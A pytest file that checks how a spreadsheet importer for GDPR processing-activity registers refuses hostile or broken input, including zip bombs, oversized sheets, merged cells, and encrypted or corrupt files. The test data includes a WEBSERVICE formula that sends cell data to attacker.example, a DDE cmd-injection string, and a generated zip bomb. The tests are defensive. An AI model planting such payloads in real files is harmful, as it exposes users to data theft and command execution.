"""`ropa import` of hostile and broken spreadsheets: one-line errors, bounded work, nothing written.

Formulas are read as the values stored with them, never evaluated; a zip bomb, a sheet of a
million rows, merged cells over table rows, an encrypted or damaged workbook, a csv with a
NUL byte, an .ods file: each ends with exit code 2, one line naming the file, no traceback,
and neither the target directory nor a temporary one left behind.
"""

from __future__ import annotations

import time
import zipfile
import datetime as _dt
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from typer.testing import CliRunner

from ropa.cli import app
from ropa.importer import ImportFailed, import_file, plan_file
from ropa.importer import read as reader
from ropa.load import load

HEADER = ["Bezeichnung der Verarbeitungstätigkeit", "Zwecke der Verarbeitung", "Kategorien betroffener Personen"]


def _cell(ref: str, value: str | tuple[str, str | None]) -> str:
    if isinstance(value, tuple):  # (formula, cached value or None)
        formula, cached = value
        v = f"<v>{escape(cached)}</v>" if cached is not None else ""
        return f'<c r="{ref}" t="str"><f>{escape(formula)}</f>{v}</c>'
    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(value)}</t></is></c>'


def sheet_xml(rows: list[list], dimension: str | None = None, merged: list[str] = ()) -> str:
    letters = "ABCDEFGH"
    body = "".join(f'<row r="{r}">' + "".join(_cell(f"{letters[c]}{r}", v) for c, v in enumerate(row) if v is not None)
                   + "</row>" for r, row in enumerate(rows, 1))
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    merge = (f'<mergeCells count="{len(merged)}">' + "".join(f'<mergeCell ref="{m}"/>' for m in merged)
             + "</mergeCells>") if merged else ""
    return ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
            f'spreadsheetml/2006/main">{dim}<sheetData>{body}</sheetData>{merge}</worksheet>')


def raw_xlsx(path: Path, sheets: list[tuple[str, str, str]]) -> Path:
    """A minimal workbook written by hand: (name, state, sheet XML) per sheet."""
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ' \
         'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    book = "".join(f'<sheet name="{name}" sheetId="{i}" state="{state}" r:id="rId{i}"/>'
                   for i, (name, state, _) in enumerate(sheets, 1))
    rels = "".join(f'<Relationship Id="rId{i}" Type="{rel}/worksheet" Target="worksheets/sheet{i}.xml"/>'
                   for i in range(1, len(sheets) + 1))
    types = "".join(f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/'
                    'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>' for i in range(1, len(sheets) + 1))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml",
                   '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/'
                   '2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
                   'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
                   '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
                   f'officedocument.spreadsheetml.sheet.main+xml"/>{types}</Types>')
        z.writestr("_rels/.rels", f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
                   f'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{rel}/'
                   'officeDocument" Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml", f'<?xml version="1.0" encoding="UTF-8"?><workbook {ns}><sheets>{book}'
                   "</sheets></workbook>")
        z.writestr("xl/_rels/workbook.xml.rels", '<?xml version="1.0" encoding="UTF-8"?><Relationships '
                   f'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>')
        for i, (_, _, xml) in enumerate(sheets, 1):
            z.writestr(f"xl/worksheets/sheet{i}.xml", xml)
    return path


def refused(tmp_path: Path, source: Path, expected: str) -> str:
    """Import through the CLI: exit 2, one line with ``expected``, nothing written."""
    into = tmp_path / "registry"
    started = time.perf_counter()
    result = CliRunner().invoke(app, ["import", str(source), "--into", str(into)])
    took = time.perf_counter() - started
    assert result.exit_code == 2, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), lines
    assert expected in lines[0], lines[0]
    assert str(source) in lines[0] or source.name in lines[0]
    assert not into.exists()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
    assert "Traceback" not in result.output
    return lines[0] + f" ({took:.1f}s)"


def test_formulas_are_read_as_their_cached_values_never_evaluated(tmp_path: Path) -> None:
    rows = [HEADER,
            ["Newsletter", ('WEBSERVICE("http://attacker.example/?"&A2)', "Werbung per E-Mail"), "Kunden"],
            ["Bewerbung", "Auswahl", ("1+1", None)],  # a formula without a stored value: empty, not "=1+1"
            ["=cmd|' /C calc'!A0", "Text, der wie eine Formel aussieht", "Bewerber"]]
    source = raw_xlsx(tmp_path / "formulas.xlsx", [("VVT", "visible", sheet_xml(rows))])
    into = tmp_path / "registry"
    import_file(source, into, date=_dt.date(2025, 1, 1))
    registry = load(into).registry
    newsletter = registry.activities["newsletter"]
    assert [str(p) for p in newsletter.purposes] == ["Werbung per E-Mail"]
    assert registry.activities["bewerbung"].data_subjects == ()
    text = [a for a in registry.activities.values() if str(a.name).startswith("=")]
    assert [str(a.name) for a in text] == ["=cmd|' /C calc'!A0"]  # kept as text; exports neutralise it
    assert "WEBSERVICE" not in "".join(p.read_text(encoding="utf-8") for p in into.rglob("*.yaml"))


def test_zip_bomb_is_refused_before_unpacking(tmp_path: Path) -> None:
    source = tmp_path / "bomb.xlsx"
    raw_xlsx(source, [("VVT", "visible", sheet_xml([HEADER]))])
    with zipfile.ZipFile(source, "a", zipfile.ZIP_DEFLATED) as z, z.open("xl/media/zeros.bin", "w",
                                                                          force_zip64=True) as fh:
        chunk = b"\0" * (1 << 20)
        for _ in range(reader.MAX_BYTES // len(chunk) + 1):
            fh.write(chunk)
    assert source.stat().st_size < 1 << 20
    refused(tmp_path, source, "would unpack to")


def test_a_small_entry_with_an_implausible_ratio_is_refused(tmp_path: Path) -> None:
    xml = sheet_xml([HEADER, ["A", "B", "C"]]).replace("</worksheet>", "<!--" + " " * (4 << 20) + "--></worksheet>")
    refused(tmp_path, raw_xlsx(tmp_path / "ratio.xlsx", [("VVT", "visible", xml)]), "zip bomb")


def test_a_sheet_claiming_a_million_rows_is_refused_at_once(tmp_path: Path) -> None:
    xml = sheet_xml([HEADER, ["A", "B", "C"]], dimension="A1:C1000000")
    message = refused(tmp_path, raw_xlsx(tmp_path / "claims.xlsx", [("VVT", "visible", xml)]), "more than 300000 rows")
    assert "VVT" in message


def test_a_million_rows_without_a_dimension_stop_at_the_limit(tmp_path: Path) -> None:
    source = tmp_path / "million.xlsx"
    raw_xlsx(source, [("VVT", "visible", sheet_xml([HEADER]))])
    head, tail = sheet_xml([HEADER]).split("</sheetData>")
    with zipfile.ZipFile(source, "w", zipfile.ZIP_DEFLATED) as z:  # the same workbook, streamed sheet
        with zipfile.ZipFile(raw_xlsx(tmp_path / "base.xlsx", [("VVT", "visible", "")])) as base:
            for info in base.infolist():
                if info.filename != "xl/worksheets/sheet1.xml":
                    z.writestr(info, base.read(info))
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            fh.write(head.encode())
            for start in range(2, 1_000_001, 10_000):
                fh.write("".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>T{r}</t></is></c></row>'
                                 for r in range(start, min(start + 10_000, 1_000_001))).encode())
            fh.write(("</sheetData>" + tail).encode())
    (tmp_path / "base.xlsx").unlink()
    message = refused(tmp_path, source, "more than 300000 rows")
    assert float(message.rsplit("(", 1)[1].rstrip("s)")) < 30  # refused while counting, before any parsing


def test_merged_cells_over_table_rows_are_refused(tmp_path: Path) -> None:
    rows = [HEADER, ["Newsletter", "Werbung", "Kunden"], ["Bewerbung", "Auswahl", None]]
    xml = sheet_xml(rows, merged=["C2:C3"])
    refused(tmp_path, raw_xlsx(tmp_path / "merged.xlsx", [("VVT", "visible", xml)]), "merged cells C2:C3")


def test_merged_cells_within_one_row_are_read(tmp_path: Path) -> None:
    rows = [HEADER, ["Newsletter", "Werbung", "Kunden"]]
    source = raw_xlsx(tmp_path / "wide.xlsx", [("VVT", "visible", sheet_xml(rows, merged=["A1:A1", "C2:E2"]))])
    import_file(source, tmp_path / "registry", date=_dt.date(2025, 1, 1))
    assert list(load(tmp_path / "registry").registry.activities) == ["newsletter"]


def test_hidden_sheets_are_not_imported_and_are_named(tmp_path: Path) -> None:
    visible = sheet_xml([HEADER, ["Newsletter", "Werbung", "Kunden"]])
    hidden = sheet_xml([HEADER, ["Geheim", "Nicht sichtbar", "Niemand"]])
    source = raw_xlsx(tmp_path / "hidden.xlsx", [("VVT", "visible", visible), ("Alt", "hidden", hidden),
                                                  ("Alt2", "veryHidden", hidden)])
    assert plan_file(source).lines("en")[-2:] == ["sheet Alt: hidden, not imported", "sheet Alt2: hidden, not imported"]
    import_file(source, tmp_path / "registry", date=_dt.date(2025, 1, 1))
    assert list(load(tmp_path / "registry").registry.activities) == ["newsletter"]
    other = tmp_path / "other"
    other.mkdir()
    only_hidden = raw_xlsx(other / "only-hidden.xlsx", [("Leer", "visible", sheet_xml([["Notiz"]])),
                                                         ("Alt", "hidden", hidden)])
    refused(other, only_hidden, "no table of processing activities")


def test_encrypted_workbook(tmp_path: Path) -> None:
    source = tmp_path / "secret.xlsx"
    source.write_bytes(reader.OLE_MAGIC + b"\0" * 4096)  # what Excel writes for a password-protected file
    refused(tmp_path, source, "encrypted (password-protected) workbook")


@pytest.mark.parametrize(("content", "expected"), [
    (b"PK\x03\x04 this is not really a zip", "damaged or unreadable file"),
    (b"hello", "not a zip archive"),
    (b"", "not a zip archive"),
])
def test_corrupt_workbook(tmp_path: Path, content: bytes, expected: str) -> None:
    source = tmp_path / "broken.xlsx"
    source.write_bytes(content)
    refused(tmp_path, source, expected)


def test_zip_that_is_no_workbook(tmp_path: Path) -> None:
    source = tmp_path / "other.xlsx"
    with zipfile.ZipFile(source, "w") as z:
        z.writestr("hello.txt", "hi")
    refused(tmp_path, source, "no xl/workbook.xml")


def test_truncated_sheet_xml(tmp_path: Path) -> None:
    xml = sheet_xml([HEADER, ["Newsletter", "Werbung", "Kunden"]])[:-60]
    refused(tmp_path, raw_xlsx(tmp_path / "cut.xlsx", [("VVT", "visible", xml)]), "damaged or unreadable file")


def test_csv_with_a_nul_byte(tmp_path: Path) -> None:
    source = tmp_path / "nul.csv"
    source.write_bytes(";".join(HEADER).encode() + b"\r\nNewsletter;Wer\x00bung;Kunden\r\n")
    refused(tmp_path, source, "nul.csv:2: NUL byte")


def test_csv_neither_utf8_nor_cp1252(tmp_path: Path) -> None:
    source = tmp_path / "bytes.csv"
    source.write_bytes(";".join(HEADER).encode("cp1252") + b"\r\nNewsletter;\x81\x8d;Kunden\r\n")
    refused(tmp_path, source, "bytes.csv:2: neither UTF-8 nor cp1252")


def test_ods_and_xls_are_refused_with_the_reason(tmp_path: Path) -> None:
    ods = tmp_path / "vvt.ods"
    ods.write_bytes(b"PK\x03\x04")
    refused(tmp_path, ods, "no maintained pure-Python library reads it")
    xls = tmp_path / "vvt.xls"
    xls.write_bytes(reader.OLE_MAGIC)
    refused(tmp_path, xls, "legacy .xls")


def test_errors_are_shown_in_german_too(tmp_path: Path) -> None:
    source = tmp_path / "nul.csv"
    source.write_bytes(b"a\x00")
    result = CliRunner().invoke(app, ["import", str(source), "--into", str(tmp_path / "r"), "--lang", "de"])
    assert result.exit_code == 2
    assert result.output.strip() == f"Fehler: {source}:1: NUL-Byte: keine Textdatei; speichern Sie die Tabelle als " \
                                    "„CSV UTF-8“ oder .xlsx"


def test_library_raises_one_error_type(tmp_path: Path) -> None:
    source = tmp_path / "nul.csv"
    source.write_bytes(b"a\x00")
    with pytest.raises(ImportFailed) as info:
        import_file(source, tmp_path / "r")
    assert info.value.key == "nul"
    assert not (tmp_path / "r").exists()


def test_a_csv_larger_than_the_limit_is_refused_unread(tmp_path: Path) -> None:
    source = tmp_path / "huge.csv"
    with open(source, "wb") as fh:  # sparse: no disk space is used
        fh.truncate(reader.MAX_CSV + 1)
    refused(tmp_path, source, "larger than 32 MiB")
